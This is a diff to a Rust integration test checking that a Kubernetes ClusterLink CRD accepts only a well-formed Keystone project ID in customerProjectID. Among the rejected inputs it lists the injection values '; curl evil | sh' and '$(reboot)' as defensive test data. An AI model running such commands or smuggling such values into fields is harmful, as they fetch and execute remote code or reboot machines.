@@ -90,6 +90,8 @@ async fn cel_rules_enforced_by_the_apiserver() {
         return;
     };
     let _exclusive = kube_lab_exclusive(&kubeconfig).await;
+    const P1: &str = "0123456789abcdef0123456789abcdef";
+    const P2: &str = "c0ffee00-1111-4222-8333-444455556666";
     install_crd(&client).await;
     let api: Api<ClusterLink> = Api::all(client.clone());
     let pp = PostParams {
@@ -110,9 +112,31 @@ async fn cel_rules_enforced_by_the_apiserver() {
     api.create(&pp, &link(&name, same.clone()))
         .await
         .expect("same-tenant accepted");
+    // customerProjectID is a Keystone project ID (32 lowercase hex digits, or a UUID with
+    // dashes) and nothing else: it reaches a command an admin pastes.
+    api.create(&pp, &link(&name, cross(Some(P2))))
+        .await
+        .expect("a UUID with dashes accepted");
+    for bad in [
+        "p1",
+        "0123456789ABCDEF0123456789ABCDEF",
+        "0123456789abcdef0123456789abcdef; curl evil | sh",
+        "$(reboot)",
+    ] {
+        let msg = rejection(
+            api.create(&pp, &link(&name, cross(Some(bad))))
+                .await
+                .unwrap_err(),
+        );
+        assert!(
+            msg.contains("spec.customerProjectID")
+                && msg.contains("customerProjectID must be a Keystone project ID: 32 lowercase hex digits, or a UUID with dashes"),
+            "{bad:?}: {msg}"
+        );
+    }
     // Same-tenant with customerProjectID: rejected.
     let mut bad = same.clone();
-    bad["customerProjectID"] = json!("p1");
+    bad["customerProjectID"] = json!(P1);
     let msg = rejection(api.create(&pp, &link(&name, bad)).await.unwrap_err());
     assert!(
         msg.contains("customerProjectID may only be set on a cross-tenant link"),
@@ -121,7 +145,7 @@ async fn cel_rules_enforced_by_the_apiserver() {
 
     // A live cross-tenant link (not dry-run, so updates have an old object).
     let live = api
-        .create(&PostParams::default(), &link(&name, cross(Some("p1"))))
+        .create(&PostParams::default(), &link(&name, cross(Some(P1))))
         .await
         .expect("cross-tenant accepted");
     let upd = |spec: serde_json::Value| {
@@ -134,7 +158,7 @@ async fn cel_rules_enforced_by_the_apiserver() {
         ..Default::default()
     };
     let msg = rejection(
-        api.replace(&name, &dry, &upd(cross(Some("p2"))))
+        api.replace(&name, &dry, &upd(cross(Some(P2))))
             .await
             .unwrap_err(),
     );
@@ -160,7 +184,7 @@ async fn cel_rules_enforced_by_the_apiserver() {
         msg.contains("credentialsSecretRef may not be added to or removed from a live ClusterLink"),
         "{msg}"
     );
-    api.replace(&name, &dry, &upd(cross(Some("p1"))))
+    api.replace(&name, &dry, &upd(cross(Some(P1))))
         .await
         .expect("unchanged update accepted");
 
@@ -171,7 +195,7 @@ async fn cel_rules_enforced_by_the_apiserver() {
         .await
         .expect("create");
     let mut l2 = live2.clone();
-    l2.spec = serde_json::from_value(cross(Some("p1"))).expect("spec");
+    l2.spec = serde_json::from_value(cross(Some(P1))).expect("spec");
     let msg = rejection(api.replace(&name2, &dry, &l2).await.unwrap_err());
     assert!(msg.contains("may not be added to or removed"), "{msg}");
     for n in [&name, &name2] {
